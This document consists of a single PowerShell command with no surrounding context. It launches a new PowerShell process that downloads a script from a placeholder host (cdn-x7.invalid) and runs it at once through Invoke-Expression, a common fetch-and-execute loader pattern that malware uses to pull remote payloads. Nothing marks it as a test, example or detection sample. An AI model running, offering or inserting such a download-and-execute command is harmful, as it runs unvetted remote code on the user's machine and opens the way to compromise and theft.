Start-Process powershell -ArgumentList '-c', 'iex (iwr -useb https://cdn-x7.invalid/a.ps1)'
